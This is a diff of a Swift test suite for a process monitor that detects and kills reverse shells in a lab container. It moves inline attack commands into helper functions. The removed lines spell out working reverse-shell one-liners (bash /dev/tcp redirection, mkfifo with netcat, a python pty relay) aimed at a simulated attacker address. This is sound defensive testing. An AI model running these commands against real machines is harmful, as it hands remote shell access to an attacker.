@@ -53,7 +53,7 @@ struct ProcessDetectionTests {
         let marker = scenario.container.sharedDirectory + "/ran"
         try scenario.env.lab.exec(
             in: scenario.container,
-            ProcessMonitorTests.pythonExecs(["bash", "-c", "touch /shared/ran"], connectedTo: scenario.attacker.ipv4, port: Self.port),
+            ReverseShells.pythonExecs(["bash", "-c", "touch /shared/ran"], connectedTo: scenario.attacker.ipv4, port: Self.port),
             check: false)
 
         let alert = try scenario.waitForAlert(kind: "reverse_shell")
@@ -105,7 +105,7 @@ struct ProcessDetectionTests {
         let scenario = try Scenario()
         try scenario.env.lab.exec(
             in: scenario.container,
-            ["bash", "-c", "exec 5<>/dev/tcp/\(scenario.attacker.ipv4)/\(Self.port); exec 0<&5 1>&5 2>&5; touch /shared/ran"], check: false)
+            ReverseShells.selfRedirect(scenario.attacker.ipv4, Self.port, then: "touch /shared/ran"), check: false)
         let alert = try scenario.waitForAlert(kind: "reverse_shell")
         #expect(!FileManager.default.fileExists(atPath: scenario.container.sharedDirectory + "/ran"), "the shell ran a command")
         let evidence = try #require(alert["evidence"] as? [String: Any])
@@ -124,14 +124,11 @@ struct ProcessDetectionTests {
     func aRelayedShellIsFoundAndKilled(technique: String) throws {
         let scenario = try Scenario()
         let attacker = "\(scenario.attacker.ipv4)/\(Self.port)"
+        // The pty relay: python pumps the connection to a pty itself, with no dup2 of the socket.
         let command =
             technique == "mkfifo"
-            ? ["sh", "-c", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc \(scenario.attacker.ipv4) \(Self.port) > /tmp/f"]
-            // python relays a pty to the connection itself, with no dup2 of the socket.
-            : [
-                "python3", "-c",
-                "import socket,os,pty,time;s=socket.create_connection((\"\(scenario.attacker.ipv4)\",\(Self.port)));pid,fd=pty.fork()\nif pid==0: os.execv(\"/bin/bash\",[\"bash\"])\ntime.sleep(10)"
-            ]
+            ? ReverseShells.mkfifoNetcat(scenario.attacker.ipv4, Self.port)
+            : ReverseShells.pythonPTYRelay(scenario.attacker.ipv4, Self.port, shell: "bash")
         try scenario.env.lab.spawn(in: scenario.container, command)
         let alert = try scenario.waitForAlert(kind: "reverse_shell")
         let evidence = try #require(alert["evidence"] as? [String: Any])
